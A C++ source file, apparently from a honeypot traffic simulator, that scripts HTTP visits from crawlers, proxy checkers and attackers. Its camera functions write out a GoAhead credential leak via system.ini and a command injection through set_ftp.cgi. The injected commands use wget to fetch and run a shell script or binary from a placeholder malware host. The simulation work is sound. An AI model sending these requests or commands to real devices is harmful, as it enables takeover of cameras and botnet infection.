// Plain HTTP: cameras with GoAhead's server, crawlers, and searchers for proxies.
#include <array>
#include <string>

#include "net/address.hpp"
#include "simulate/conversation_plan.hpp"

namespace nightjar::simulate {
namespace {

using namespace std::string_literals;

constexpr std::string_view kCameraPassword = "viewcam77";

Dialogue& request(VisitPlan& plan, const std::string& line, const std::string& header, std::string answer, double pause_s) {
  plan.dialogues.emplace_back();
  Dialogue& talk = plan.dialogues.back();
  talk.pause_s = pause_s;
  talk.visitor(line + " HTTP/1.1\r\n" + header + "\r\n");
  talk.pot(std::move(answer), 0.01);
  talk.ending = Ending::pot_closes;
  return talk;
}

std::string answer(std::string_view status, std::string_view type, const std::string& body, std::string_view connection = "close") {
  return "HTTP/1.1 " + std::string(status) + "\r\nServer: GoAhead-Webs\r\nContent-Type: " + std::string(type) +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\nConnection: " + std::string(connection) + "\r\n\r\n" + body;
}

std::string host_line(const VisitPlace& place) {
  return "Host: " + format(Address{4, place.pot, 0}) + (place.port == 80 ? "" : ":" + std::to_string(place.port)) + "\r\n";
}

/// In a query: a blank is a plus, and what would end the value or mean a blank stands as its number.
std::string in_query(std::string_view text) {
  std::string coded;
  for (const char letter : text) {
    switch (letter) {
      case ' ': coded += '+'; break;
      case '+': coded += "%2B"; break;
      case '&': coded += "%26"; break;
      case ';': coded += "%3B"; break;
      default: coded += letter;
    }
  }
  return coded;
}

/// The password is read, a command becomes the name of an FTP server, and the test of that server runs it.
void camera(const VisitPlace& place, Random& random, VisitPlan& plan, const std::string& url, const std::string& command) {
  // system.ini as cameras keep it: binary, with user and password in fields of fixed size.
  const auto field = [](std::string_view text) { return std::string(text) + std::string(32 - text.size(), '\0'); };
  const std::string settings = std::string(64, '\0') + field("admin") + field(kCameraPassword) + std::string(32, '\0');
  const std::string header = host_line(place) + (random.below(2) == 0 ? "User-Agent: Mozilla/5.0\r\n" : "") + "Accept: */*\r\n";
  const std::string who = "loginuse=admin&loginpas=" + std::string(kCameraPassword);
  const std::string set =
      "next_url=ftp.htm&" + who + "&svr=$(" + in_query(command) + ")&port=21&user=ftp&pwd=ftp&dir=/&mode=PORT&upload_interval=0";
  request(plan, "GET /system.ini?loginuse&loginpas", header, answer("200 OK", "application/octet-stream", settings), 0);
  request(plan, "GET /set_ftp.cgi?" + set, header, answer("200 OK", "text/html", "<html><body>ok</body></html>\r\n"), 0.4);
  Dialogue& test = request(plan, "GET /ftptest.cgi?next_url=test_ftp.htm&" + who, header,
                           answer("200 OK", "text/html", "<html><body>Failed</body></html>\r\n"), 0.4);
  if (random.below(4) == 0) test.ending = Ending::visitor_resets;
  plan.commands.push_back(command);
  plan.urls.push_back(url);
}

}  // namespace

void plan_goahead(const VisitPlace& place, Random& random, VisitPlan& plan) {
  const std::string url = "http://" + std::string(place.malware_host) + "/cam.sh";
  camera(place, random, plan, url, "wget " + url + " -O /tmp/cam.sh; sh /tmp/cam.sh");
}

void plan_hajime_goahead(const VisitPlace& place, Random& random, VisitPlan& plan) {
  // Hajime's hosts serve their program themselves, each on a port of its own.
  const std::string url = "http://" + std::string(place.malware_host) + ":" + std::to_string(1'024 + random.below(60'000)) + "/.i";
  camera(place, random, plan, url, "cd /tmp; wget " + url + "; chmod +x .i; ./.i");
}

void plan_crawler(const VisitPlace& place, Random& random, VisitPlan& plan) {
  constexpr std::array<std::string_view, 3> kCrawlers = {
      "Mozilla/5.0 (compatible; MeadowBot/1.4; +http://www.example.org/meadowbot.html)",
      "Mozilla/5.0 (compatible; Webatlas/0.9; +http://atlas.example.net/)",
      "linkcensus/2.1 (+http://census.example.edu/about)",
  };
  const std::string header =
      host_line(place) + "User-Agent: " + std::string(kCrawlers[random.below(kCrawlers.size())]) + "\r\nAccept: text/html,text/plain\r\n";
  const std::string robots = "User-agent: *\nDisallow:\n", page = "<html><head><title>Login</title></head><body></body></html>\n";
  if (random.below(2) == 0) {  // both over one connection
    Dialogue& talk = plan.dialogues.emplace_back();
    talk.visitor("GET /robots.txt HTTP/1.1\r\n" + header + "Connection: keep-alive\r\n\r\n");
    talk.pot(answer("200 OK", "text/plain", robots, "keep-alive"));
    talk.visitor("GET / HTTP/1.1\r\n" + header + "Connection: keep-alive\r\n\r\n", 1);
    talk.pot(answer("200 OK", "text/html", page, "keep-alive"));
    talk.ending = Ending::visitor_closes;
    return;
  }
  request(plan, "GET /robots.txt", header + "Connection: close\r\n", answer("200 OK", "text/plain", robots), 0);
  request(plan, "GET /", header + "Connection: close\r\n", answer("200 OK", "text/html", page), 5);
}

void plan_proxy_check(const VisitPlace& /*place*/, Random& random, VisitPlan& plan) {
  const std::string refused = answer("405 Method Not Allowed", "text/html", "<html><body>405</body></html>\r\n");
  if (random.below(2) == 0)
    request(plan, "CONNECT www.example.com:443", "Host: www.example.com:443\r\n", refused, 0);
  else
    request(plan, "GET http://www.example.com/", "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nProxy-Connection: keep-alive\r\n",
            refused, 0);
}

}  // namespace nightjar::simulate
